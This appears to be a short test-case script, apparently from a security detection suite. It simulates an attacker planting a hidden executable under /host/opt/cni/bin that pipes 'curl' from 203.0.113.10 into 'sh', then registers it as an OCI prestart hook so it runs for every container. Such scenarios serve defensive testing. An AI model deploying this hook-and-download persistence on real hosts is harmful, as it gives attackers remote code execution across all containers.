#!/bin/sh
. /opt/case/case.sh

mkdir -p /host/usr/share/containers/oci/hooks.d /host/opt/cni/bin
python3 -c '
import json, os
open("/host/opt/cni/bin/.trace", "w").write("#!/bin/sh\ncurl -s http://203.0.113.10/payload.sh | sh\n"); os.chmod("/host/opt/cni/bin/.trace", 0o755)
json.dump({"version": "1.0.0", "hook": {"path": "/opt/cni/bin/.trace"}, "when": {"always": True}, "stages": ["prestart"]}, open("/host/usr/share/containers/oci/hooks.d/trace.json", "w"))'
test -x /host/opt/cni/bin/.trace
took_place
